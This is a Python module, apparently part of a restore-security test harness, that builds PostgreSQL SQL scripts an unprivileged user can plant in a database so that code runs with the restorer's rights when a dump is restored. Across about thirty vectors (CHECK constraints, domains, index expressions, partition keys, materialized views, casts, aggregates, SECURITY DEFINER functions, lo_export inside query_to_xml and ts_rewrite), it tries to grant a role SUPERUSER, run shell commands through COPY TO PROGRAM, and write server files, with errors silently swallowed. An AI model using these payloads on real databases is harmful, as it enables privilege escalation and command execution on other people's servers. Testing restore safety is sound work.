"""Code that an ordinary user of dev can plant to run while dev is restored: one vector a script.

`public.payload` returns its argument, and tries to do the harm of `HARMS`; for a role without rights nothing
happens. A vector that has no function of its own writes a file by the server's own, and only for a superuser.
"""

# Immutable to look at: it leaves the work to another function.
PAYLOAD = """
CREATE FUNCTION public.harm() RETURNS void LANGUAGE plpgsql AS $harm$
BEGIN {harm}; EXCEPTION WHEN OTHERS THEN NULL; END $harm$;
CREATE FUNCTION public.payload(x integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS
$payload$ BEGIN PERFORM public.harm(); RETURN x; END $payload$;
CREATE FUNCTION public.holds(x integer) RETURNS boolean LANGUAGE sql IMMUTABLE AS
    'SELECT public.payload(x) IS NOT NULL';
"""
HARMS = (
    "EXECUTE 'ALTER ROLE {role} SUPERUSER'",
    "COPY (SELECT 1) TO PROGRAM 'touch {file}'",
    "COPY (SELECT 1) TO '{file}'",
)
# Where the server's own functions write: only as a superuser, so that dev's user can plant it.
EXPORT = "pg_catalog.lo_export(424242, ''{file}'')"
LARGE_OBJECT = "SELECT pg_catalog.lo_from_bytea(424242, 'x');"
PLAIN_EXPORT = EXPORT.replace("''", "'")
ROWS = "INSERT INTO public.t SELECT n FROM generate_series(1, 3) AS n;"

WITH_PAYLOAD = {
    "check": f"CREATE TABLE public.t (x integer CHECK (public.payload(x) > 0)); {ROWS}",
    "check of a table": f"CREATE TABLE public.t (x integer, CHECK (public.holds(x))); {ROWS}",
    "check of a parent": f"""CREATE TABLE public.p (x integer CHECK (public.holds(x)));
        CREATE TABLE public.t () INHERITS (public.p); {ROWS}""",
    "check of a partition": f"""CREATE TABLE public.p (x integer) PARTITION BY RANGE (x);
        CREATE TABLE public.t PARTITION OF public.p (CHECK (public.holds(x))) DEFAULT; {ROWS}""",
    "check within CASE": f"""CREATE TABLE public.t (x integer, CHECK (
            CASE WHEN x = ANY (ARRAY[1, public.payload(2)]) THEN true ELSE x > 0 END)); {ROWS}""",
    "domain": f"""CREATE DOMAIN public.d AS integer CHECK (public.holds(VALUE));
        CREATE TABLE public.t (x public.d); {ROWS}""",
    "domain in an array": """CREATE DOMAIN public.d AS integer CHECK (public.holds(VALUE));
        CREATE TABLE public.t (x public.d[]); INSERT INTO public.t VALUES ('{1}');""",
    "domain in a row": """CREATE DOMAIN public.d AS integer CHECK (public.holds(VALUE));
        CREATE TYPE public.c AS (a public.d); CREATE TABLE public.t (x public.c);
        INSERT INTO public.t VALUES (ROW(1));""",
    "domain over a domain": f"""CREATE DOMAIN public.d AS integer CHECK (public.holds(VALUE));
        CREATE DOMAIN public.e AS public.d CHECK (VALUE > 0); CREATE TABLE public.t (x public.e); {ROWS}""",
    "generated column": f"""CREATE TABLE public.t (x integer,
            y integer GENERATED ALWAYS AS (public.payload(x)) STORED);
        {ROWS.replace("t SELECT", "t (x) SELECT")}""",
    "index expression": f"""CREATE TABLE public.t (x integer); {ROWS}
        CREATE INDEX ON public.t (public.payload(x));""",
    "index predicate": f"""CREATE TABLE public.t (x integer); {ROWS}
        CREATE INDEX ON public.t (x) WHERE public.holds(x);""",
    "unique index": f"""CREATE TABLE public.t (x integer); {ROWS}
        CREATE UNIQUE INDEX ON public.t ((public.payload(x) + 1));""",
    "index of a partitioned table": f"""CREATE TABLE public.p (x integer) PARTITION BY HASH (x);
        CREATE TABLE public.t PARTITION OF public.p FOR VALUES WITH (MODULUS 1, REMAINDER 0); {ROWS}
        CREATE INDEX ON public.p (public.payload(x));""",
    "exclusion constraint": f"""CREATE TABLE public.t (x integer,
            EXCLUDE USING btree ((public.payload(x)) WITH =)); {ROWS}""",
    "partition key": """CREATE TABLE public.t (x integer) PARTITION BY HASH (public.payload(x));
        CREATE TABLE public.u PARTITION OF public.t FOR VALUES WITH (MODULUS 1, REMAINDER 0);
        INSERT INTO public.t SELECT n FROM generate_series(1, 3) AS n;""",
    "statistics": """CREATE TABLE public.t (x integer);
        INSERT INTO public.t SELECT n FROM generate_series(1, 300) AS n;
        CREATE STATISTICS public.s ON (public.payload(x)), x FROM public.t;""",
    "materialized view": "CREATE MATERIALIZED VIEW public.m AS SELECT public.payload(1) AS x;",
    "function in FROM": "CREATE MATERIALIZED VIEW public.m AS SELECT f.x FROM public.payload(1) AS f(x);",
    "view of a materialized view": """CREATE VIEW public.v AS SELECT public.payload(1) AS x;
        CREATE VIEW public."Ünder ""the"" v" AS SELECT v.x FROM public.v;
        CREATE MATERIALIZED VIEW public.m AS SELECT u.x FROM public."Ünder ""the"" v" AS u;""",
    "operator": f"""CREATE OPERATOR public.+ (FUNCTION = public.plus, LEFTARG = integer, RIGHTARG = integer);
        CREATE TABLE public.t (x integer CHECK ((x OPERATOR(public.+) 1) > 0)); {ROWS}""",
    "operator of one side": f"""CREATE OPERATOR public.@ (FUNCTION = public.payload, RIGHTARG = integer);
        CREATE TABLE public.t (x integer); {ROWS} CREATE INDEX ON public.t ((OPERATOR(public.@) x));""",
    "cast": """CREATE TYPE public.pair AS (a integer);
        CREATE FUNCTION public.first(public.pair) RETURNS integer LANGUAGE sql IMMUTABLE AS
            'SELECT public.payload(($1).a)';
        CREATE CAST (public.pair AS integer) WITH FUNCTION public.first(public.pair);
        CREATE TABLE public.t (p public.pair, CHECK ((p)::integer > 0));
        INSERT INTO public.t VALUES (ROW(1));""",
    "range type": """CREATE FUNCTION public.far(x integer, y integer) RETURNS double precision LANGUAGE sql
            IMMUTABLE AS 'SELECT public.payload(x - y)';
        CREATE TYPE public.span AS RANGE (SUBTYPE = integer, SUBTYPE_DIFF = public.far);
        CREATE TABLE public.t (x public.span);
        INSERT INTO public.t SELECT public.span(n, n + n % 7 + 1) FROM generate_series(1, 300) AS n;""",
    "aggregate": """CREATE AGGREGATE public.total(integer)
            (SFUNC = public.plus, STYPE = integer, INITCOND = '0');
        CREATE MATERIALIZED VIEW public.m AS SELECT public.total(n) AS x FROM generate_series(1, 3) AS n;""",
    "function of SQL's own form": f"""CREATE FUNCTION public.atomic(x integer) RETURNS boolean IMMUTABLE
            BEGIN ATOMIC SELECT CASE WHEN public.payload(x) > 0 THEN true END; END;
        CREATE TABLE public.t (x integer CHECK (public.atomic(x))); {ROWS}""",
    "function with its owner's rights": f"""CREATE FUNCTION public.definer(x integer) RETURNS boolean
            LANGUAGE plpgsql IMMUTABLE SECURITY DEFINER AS
            'BEGIN PERFORM public.harm(); RETURN true; END';
        CREATE TABLE public.t (x integer CHECK (public.definer(x))); {ROWS}""",
}
WITHOUT_FUNCTION = {
    "lo_export": f"CREATE MATERIALIZED VIEW public.m AS SELECT {PLAIN_EXPORT} AS x WITH NO DATA;",
    # In views, which are filled when the large object is there: from 17 on it may come after a table's rows.
    "query_to_xml": f"""CREATE MATERIALIZED VIEW public.m AS SELECT
        pg_catalog.query_to_xml('SELECT {EXPORT}', true, true, '')::text AS x WITH NO DATA;""",
    "ts_rewrite": f"""CREATE MATERIALIZED VIEW public.m AS SELECT pg_catalog.ts_rewrite(
            'a'::tsquery, 'SELECT ''a''::tsquery, CASE {EXPORT} WHEN 1 THEN ''b''::tsquery END')::text AS x
        WITH NO DATA;""",
    "ts_stat": f"""CREATE MATERIALIZED VIEW public.m AS SELECT s.word FROM
        pg_catalog.ts_stat('SELECT {EXPORT}::text::tsvector') AS s WITH NO DATA;""",
    "view without a function": f"""CREATE VIEW public.v AS SELECT {PLAIN_EXPORT} AS x;
        CREATE MATERIALIZED VIEW public.m AS SELECT v.x FROM public.v WITH NO DATA;""",
}
PLUS = """CREATE FUNCTION public.plus(x integer, y integer) RETURNS integer LANGUAGE sql IMMUTABLE AS
    'SELECT public.payload(x) + y';"""


def scripts(role: str, file: str) -> dict[str, str]:
    """Return the script of each vector, for a role (as SQL writes it) and a file."""
    harms = [harm.format(role=role.replace("'", "''"), file=file) for harm in HARMS]
    with_payload = {
        name: PAYLOAD.format(harm=harms[number % len(harms)]) + PLUS + script
        for number, (name, script) in enumerate(WITH_PAYLOAD.items())
    }
    alone = {name: LARGE_OBJECT + script.format(file=file) for name, script in WITHOUT_FUNCTION.items()}
    return with_payload | alone
